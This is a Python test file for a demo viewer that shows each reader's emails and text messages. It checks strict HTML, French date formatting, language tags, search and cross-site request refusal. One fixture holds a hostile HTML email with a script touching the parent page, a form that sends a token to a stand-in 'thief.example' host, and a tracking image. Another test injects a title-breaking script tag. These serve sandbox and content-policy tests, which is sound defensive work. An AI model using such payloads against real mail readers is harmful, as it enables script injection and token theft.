"""The demo's page: strict HTML, every reader's own view, and mail that can do nothing."""

from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from email.message import EmailMessage
from pathlib import Path

import html5lib
import pytest
from aiohttp import ClientSession

from hub import register
from hub.demo import letter as letters
from hub.demo import readers
from hub.demo.mailbox import Mailbox
from hub.demo.phones import Phones, Text
from hub.demo.viewer import Desk, open_viewer
from hub.now import Clock

PEOPLE = """external_id,email,phone,language,organisation,organisation_commune,sector,audience
1,anne@maison.example,,fr,Les Tilleuls,57064,elderly.residential,direction
1,anne@maison.example,,fr,Les Tilleuls,57064,disability.residential,direction
2,,+32460000002,de,,,elderly.residential,family
"""
SENDER, ANNE = "directives@univoque.example", "anne@maison.example"
HOSTILE = """<!DOCTYPE html><html><head><title>x</title></head><body>
<script>parent.document.title = "taken"</script>
<form action="https://thief.example"><input name="token"></form>
"><img src="https://thief.example/seen.png"></body></html>"""


@pytest.fixture
async def desk(tmp_path: Path) -> AsyncIterator[Desk]:
    people = tmp_path / "people.csv"
    people.write_text(PEOPLE, encoding="utf-8")
    mailbox = Mailbox(tmp_path / "mail", Clock())
    phones = Phones("AC0", "token", Clock(), inbound_url="http://127.0.0.1:9/")
    names = readers.Names(register.load())
    yield Desk(mailbox, phones, readers.read(people), names, "http://127.0.0.1:9/")
    mailbox.close()


@pytest.fixture
async def url(desk: Desk) -> AsyncIterator[str]:
    async with open_viewer(desk) as url:
        yield url


def _receive(desk: Desk, subject: str, html: str) -> None:
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = SENDER, ANNE, subject
    message.set_content("Texte")
    message.add_alternative(html, subtype="html")
    desk.mailbox.keep(SENDER, ANNE, message.as_bytes())


async def _get(address: str) -> tuple[str, str]:
    async with ClientSession() as http, http.get(address) as response:
        assert response.status == 200
        return await response.text(), response.headers["Content-Security-Policy"]


@pytest.mark.parametrize(
    "path",
    ["", "?q=tilleuls&secteur=elderly.residential&langue=fr&suivre=1", "?page=99", "?page=x", "lecteur/1",
     "lecteur/1?vue=texte", "lecteur/1?vue=source", "lecteur/1?vue=nothing&courriel=77", "lecteur/2"],
)  # fmt: skip
async def test_each_page_is_strict_html(desk: Desk, url: str, path: str) -> None:
    _receive(desk, "Visites <b>interdites</b>", HOSTILE)
    desk.phones.take(
        {"To": "+32460000002", "From": "Univoque", "Body": "Visites : <b>non</b> http://a.example/d/K7"}
    )

    page, _ = await _get(url + path)

    html5lib.HTMLParser(strict=True).parse(page)


async def test_hostile_mail_stays_in_a_frame_that_can_neither_run_nor_fetch(desk: Desk, url: str) -> None:
    _receive(desk, "</title><script>alert(1)</script>", HOSTILE)

    page, policy = await _get(url + "lecteur/1")

    tree = html5lib.parse(page, namespaceHTMLElements=False)
    [frame] = tree.iter("iframe")
    assert list(tree.iter("script")) == []
    assert list(tree.iter("img")) == []
    assert [form.get("action") for form in tree.iter("form")] == []
    assert set(frame.get("sandbox", "").split()) == {"allow-popups", "allow-popups-to-escape-sandbox"}
    assert "thief.example" in frame.get("srcdoc", "")
    assert '<head><base target="_blank">' in frame.get("srcdoc", "")
    assert "default-src 'none'" in policy
    assert "script-src" not in policy


async def test_a_mail_s_date_is_said_on_the_reader_s_own_clock(desk: Desk, url: str) -> None:
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = SENDER, ANNE, "Visites"
    message["Date"] = "Tue, 28 Apr 2020 22:30:00 +0000"
    message.set_content("Texte")
    desk.mailbox.keep(SENDER, ANNE, message.as_bytes())

    page, _ = await _get(url + "lecteur/1")
    source, _ = await _get(url + "lecteur/1?vue=source")

    assert "<dd>mercredi 29 avril 2020, 00:30</dd>" in page
    assert "Date: Tue, 28 Apr 2020 22:30:00 +0000" in source


async def test_the_first_of_a_month_is_said_as_french_says_it(desk: Desk, url: str) -> None:
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = SENDER, ANNE, "Visites"
    message["Date"] = "Wed, 01 Apr 2020 08:00:00 +0000"
    message.set_content("Texte")
    first = datetime(2020, 4, 1, 8, tzinfo=UTC)
    desk.mailbox.keep(SENDER, ANNE, message.as_bytes())
    desk.phones.clock = Clock(lambda: first)
    desk.phones.take({"To": "+32460000002", "From": "Univoque", "Body": "Visites"})

    mail, _ = await _get(url + "lecteur/1")
    phone, _ = await _get(url + "lecteur/2")

    assert "<dd>mercredi 1er avril 2020, 10:00</dd>" in mail
    assert '<p class="when">1er avr. 2020, 10:00</p>' in phone
    assert letters.in_french(first + timedelta(days=10), "EEE d MMM y") == "sam. 11 avr. 2020"
    assert letters.in_french(first, "EEE d MMM y") == "mer. 1er avr. 2020"


async def test_words_in_another_language_than_the_page_say_which(desk: Desk, url: str) -> None:
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = SENDER, ANNE, "Bezoek verboden"
    message.set_content("Tekst")
    message["Content-Language"] = "nl"
    desk.mailbox.keep(SENDER, ANNE, message.as_bytes())
    desk.phones.take({"To": "+32460000002", "From": "Univoque", "Body": "Besuche verboten"})
    desk.phones.threads["+32460000002"].append(
        Text("SM0", "+32460000002", "Univoque", "STOP", "inbound", desk.phones.clock.now(), "received")
    )

    mail, _ = await _get(url + "lecteur/1?vue=texte")
    phone, _ = await _get(url + "lecteur/2")

    assert '<h3 id="objet" lang="nl">Bezoek verboden</h3>' in mail
    assert '<pre class="words" lang="nl">Tekst' in mail
    assert '<p class="bubble" lang="de">Besuche verboten</p>' in phone
    assert '<p class="bubble">STOP</p>' in phone


async def test_a_search_finds_people_by_word_sector_and_what_they_received(desk: Desk, url: str) -> None:
    _receive(desk, "Visites", "<p>x</p>")

    by_word, _ = await _get(url + "?q=TILLEULS")
    by_mail, _ = await _get(url + "?canal=courriel")
    by_language, _ = await _get(url + "?langue=de")

    assert ">anne@maison.example<" in by_word
    assert ">+32460000002<" not in by_word
    assert ">+32460000002<" not in by_mail
    assert ">+32460000002<" in by_language


async def test_the_phone_shows_what_a_text_weighs(desk: Desk, url: str) -> None:
    desk.phones.take({"To": "+32460000002", "From": "Univoque", "Body": "Visites interdites"})

    page, _ = await _get(url + "lecteur/2")

    assert "1 segment · GSM-7 · en route" in page


async def test_an_answer_in_a_readers_name_comes_from_the_page_alone(desk: Desk, url: str) -> None:
    desk.phones.take({"To": "+32460000002", "From": "Univoque", "Body": "Visites interdites"})
    headers = {"Sec-Fetch-Site": "cross-site"}

    async with ClientSession() as http, http.post(url + "lecteur/2/stop", headers=headers) as response:
        status = response.status

    assert status == 403
    assert desk.phones.stopped == set()


async def test_an_unknown_reader_is_a_plain_404(url: str) -> None:
    async with ClientSession() as http, http.get(url + "lecteur/4711") as response:
        status = response.status

    assert status == 404


def test_the_rows_of_one_person_become_one_reader(desk: Desk) -> None:
    anne, family = desk.readers

    assert anne.hats == (("elderly.residential", "direction"), ("disability.residential", "direction"))
    assert anne.communes == ("57064",)
    assert family.phone == "+32460000002"
